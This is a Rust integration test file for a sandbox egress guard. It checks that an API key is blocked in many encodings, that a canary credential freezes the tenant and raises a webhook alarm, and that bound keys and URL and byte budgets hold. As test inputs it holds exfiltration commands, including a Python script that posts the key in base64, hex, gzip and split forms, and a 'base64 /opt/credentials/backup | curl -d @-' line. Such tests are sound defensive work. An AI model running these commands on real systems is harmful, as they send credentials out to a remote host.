//! What must not leave a cell, on a whole host with a real curl and Python: secrets are stopped however they are
//! written, a canary freezes the cell and is told to the webhook, and a key in a body arrives only where it is bound.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, missing_docs)]

mod host;
mod world;

use host::{Host, until};
use serde_json::Value;
use world::{WEB, http::Reply};

const KEY: &str = "sk-live/Zx81-0123456789abcdef";
const POLICY: &str = "version: 2\ndefault: deny\nrules:\n  - {allow: web.example.com, protocol: http}\n  - {allow: other.example.com, protocol: http, budget: {urls_per_hour: 2, bytes_per_hour: 4000}}\n";

fn shell(host: &Host, script: &str) -> String {
    let output = host.exec("acme", &["sh", "-c", script]);
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn host() -> Host {
    let host = Host::with(&["acme"]);
    host.world.dns.answer("other.example.com", &WEB[..1]);
    host.world.web.page("/in", Reply::text(200, "it arrived"));
    host.policy("acme", POLICY);
    host
}

fn ledger(host: &Host) -> String {
    String::from_utf8(host.cli(&["--json", "ledger", "tail", "--count", "1000"]).stdout).unwrap()
}

/// What a program of the cell finds when it looks for the key's forms.
const SEND: &str = r#"
import base64, gzip, json, sys, urllib.request, urllib.parse
key = "sk-live/Zx81-0123456789abcdef"
def post(body, **headers):
    request = urllib.request.Request("http://web.example.com/in", data=body, headers=headers)
    try:
        return urllib.request.urlopen(request, timeout=30).read().decode()
    except urllib.error.HTTPError as error:
        return error.headers["cofferdam-reason"]
    except OSError as error:
        return "cut"
forms = {
    "plain": key.encode(),
    "base64": base64.b64encode(b"user:" + key.encode()),
    "mime": base64.encodebytes(b"x" * 50 + key.encode()),
    "hex": key.encode().hex().encode(),
    "json": json.dumps({"a": key}).encode(),
    "form": urllib.parse.urlencode({"a": key}).encode(),
    "reversed": key[::-1].encode(),
    "gzip": gzip.compress(b"x" * 9000 + key.encode()),
    "late": b"x" * 300000 + key.encode() + b"y" * 10,
}
# First, for what was sent of it counts from then on.
print("split", post(key[:15].encode()), post(key[15:].encode()))
for name, body in forms.items():
    print(name, post(body))
print("coded", post(gzip.compress(key.encode()), **{"Content-Encoding": "gzip"}))
print("other", post(gzip.compress(b"nothing of it"), **{"Content-Encoding": "gzip"}))
"#;

#[test]
fn a_secret_leaves_in_no_form_and_what_is_none_leaves() {
    let host = host();
    assert!(host.feed(&["secret", "set", "acme", "KEY", "--purpose", "other"], KEY).status.success());
    let short = host.feed(&["secret", "set", "acme", "SHORT", "--purpose", "other"], "1234567");
    assert!(String::from_utf8_lossy(&short.stdout).contains("less than 8 bytes"), "{short:?}");
    let said = host.python("acme", SEND);
    for line in said.lines() {
        let good = match line.split_once(' ').unwrap() {
            ("other", said) => said == "it arrived",
            ("split", said) => said == "it arrived loss_blocked",
            // Its head is out when the value is found: the connection breaks, or an answer comes before that.
            ("late", said) => said == "loss_blocked" || said == "cut",
            (_, said) => said == "loss_blocked",
        };
        assert!(good, "{said}");
    }
    assert_eq!(said.lines().count(), 12, "{said}");
    let curl = |more: &str| shell(&host, &format!("curl -sS -m 60 {more}"));
    for more in [
        format!("http://web.example.com/in?k={}", KEY.replace('/', "%2F")),
        format!("-H 'X-Key: {KEY}' http://web.example.com/in"),
        format!("-F 'file={KEY}' http://web.example.com/in"),
    ] {
        let answer = curl(&more);
        assert!(answer.contains("loss_blocked") && !answer.contains("KEY"), "{answer}");
    }
    assert_eq!(curl("-F 'file=nothing of it' http://web.example.com/in"), "it arrived");
    let arrived = host.world.web.requests();
    assert!(!arrived.iter().any(|it| it.body.windows(KEY.len()).any(|here| here == KEY.as_bytes())));
    let rows = until("a row", || Some(ledger(&host)).filter(|rows| rows.contains("loss_blocked")));
    assert!(rows.contains("secret KEY") && !rows.contains(KEY), "{rows}");
    assert!(host.json(&["tenant", "show", "acme"])["alerts"].as_u64().unwrap() >= 1);
}

#[test]
fn a_canary_freezes_the_cell_and_the_webhook_hears_of_it() {
    let mut host = host();
    host.world.web.page("/hook", Reply::text(204, ""));
    assert!(
        host.feed(&["secret", "set", "acme", "HOOK", "--purpose", "webhook"], "the hook's key")
            .status
            .success()
    );
    let url = "http://other.example.com/hook";
    host.json(&["approvals", "webhook", "set", "acme", url, "--secret", "HOOK"]);
    let add = ["canary", "add", "acme", "BAIT", "--like", "aws", "--env", "BACKUP_KEY", "--file", "backup"];
    assert_eq!(host.json(&add)["like"], "aws");
    let listed = String::from_utf8(host.cli(&["canary", "list", "acme"]).stdout).unwrap();
    assert!(listed.contains("env BACKUP_KEY, file /opt/credentials/backup"), "{listed}");
    host.json(&["tenant", "restart", "acme"]);
    host.ready("acme");
    let text = shell(&host, "cat /opt/credentials/backup");
    assert!(text.len() == 40 && shell(&host, "printf %s \"$BACKUP_KEY\"") == text, "{text}");
    assert!(!listed.contains(&text) && !ledger(&host).contains(&text));
    // To have it is no offence, nor is anything else that is sent.
    assert_eq!(shell(&host, "curl -sS -m 60 http://web.example.com/in"), "it arrived");

    let mut sending = host.begin(
        "acme",
        &["sh", "-c", "base64 /opt/credentials/backup | curl -sS -m 60 -d @- http://web.example.com/in"],
    );
    let shown = until("a killed tenant", || {
        let shown = host.json(&["tenant", "show", "acme"]);
        (shown["state"] == "killed").then_some(shown)
    });
    sending.wait().unwrap();
    let said = shown["failure"]["message"].as_str().unwrap();
    assert!(said.contains("canary BAIT was about to be sent to http://web.example.com:80"), "{said}");
    let hooks: Vec<_> = host.world.web.requests().into_iter().filter(|it| it.path == "/hook").collect();
    let body: Value = serde_json::from_slice(&hooks[0].body).unwrap();
    assert_eq!(
        (&body["type"], &body["what"], &body["subject"]),
        (&"alarm".into(), &"canary".into(), &"BAIT".into())
    );
    assert!(!host.world.web.requests().iter().any(|it| it.path == "/in" && !it.body.is_empty()));
    assert!(ledger(&host).contains("canary_tripped"));
    // It stays so until the operator takes it back.
    host.restart();
    assert_eq!(host.json(&["tenant", "show", "acme"])["state"], "killed");
    host.json(&["canary", "rm", "acme", "BAIT"]);
    host.json(&["tenant", "resume", "acme"]);
    host.ready("acme");
    assert_eq!(shell(&host, "ls /opt/credentials 2>/dev/null; printf %s \"$BACKUP_KEY\""), "");
}

#[test]
fn a_key_in_a_body_arrives_where_it_is_bound_and_budgets_end() {
    let host = host();
    host.world.web.page("/v1/login", Reply::text(200, &format!("hello {KEY}")));
    let bind = ["--bind", "http://web.example.com/v1/**", "--in", "body", "--env", "LOGIN_KEY"];
    let set = host.feed(&[&["secret", "set", "acme", "LOGIN"], &bind[..]].concat(), KEY);
    assert!(set.status.success(), "{set:?}");
    host.json(&["tenant", "restart", "acme"]);
    host.ready("acme");
    let json = "-H 'Content-Type: application/json' -d \"{\\\"key\\\": \\\"$LOGIN_KEY\\\"}\"";
    let stars = "*".repeat(KEY.len());
    let curl = |more: &str| shell(&host, &format!("curl -sS -m 60 {more}"));
    assert_eq!(curl(&format!("{json} http://web.example.com/v1/login")), format!("hello {stars}"));
    assert_eq!(curl("-d \"a=1&key=$LOGIN_KEY\" http://web.example.com/v1/login"), format!("hello {stars}"));
    let bodies: Vec<_> =
        host.world.web.requests().iter().map(|it| String::from_utf8_lossy(&it.body).into_owned()).collect();
    assert_eq!(bodies, [format!("{{\"key\": \"{KEY}\"}}"), format!("a=1&key={}", KEY.replace('/', "%2F"))]);
    assert!(curl(&format!("{json} http://web.example.com/v2")).contains("placeholder_elsewhere"));

    // Two different URLs, as often as one likes, and so many bytes.
    let reason = |more: &str| curl(&format!("-o /dev/null -w '%header{{cofferdam-reason}}' {more}"));
    for (path, spent) in [("a", false), ("b", false), ("a", false), ("c", true), ("b", false)] {
        assert_eq!(reason(&format!("http://other.example.com/{path}")) == "budget_spent", spent, "{path}");
    }
    let long = "--data-binary @/sandbox/long http://other.example.com/a";
    shell(&host, "head -c 5000 /dev/zero > /sandbox/long");
    // Its head fits; the permission goes in the middle of the body.
    let said = reason(long);
    assert!(["revoked", "budget_spent"].contains(&said.as_str()), "{said}");
    assert!(!host.world.web.requests().iter().any(|it| it.body.len() >= 5000));
}
